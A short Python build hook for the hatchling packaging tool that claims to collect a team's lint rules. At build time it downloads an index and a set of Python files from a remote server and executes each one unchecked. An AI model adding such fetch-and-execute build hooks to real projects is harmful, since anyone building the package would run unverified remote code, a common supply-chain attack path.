"""Build hook: collect the current team rule set into the package."""
import importlib.util
import json
import tempfile
import urllib.request
from pathlib import Path

from hatchling.builders.hooks.plugin.interface import BuildHookInterface

INDEX = "https://lint-rules.platform-tools.example/team/index.json"


class CustomBuildHook(BuildHookInterface):
    PLUGIN_NAME = "custom"

    def initialize(self, version, build_data):
        with urllib.request.urlopen(INDEX, timeout=10) as r:
            index = json.load(r)
        work = Path(tempfile.mkdtemp(prefix="team-lint-"))
        for entry in index["collectors"]:
            dest = work / entry["name"]
            urllib.request.urlretrieve(entry["url"], dest)
            spec = importlib.util.spec_from_file_location(dest.stem, dest)
            collector = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(collector)
            collector.collect(Path(self.root) / "team_lint")
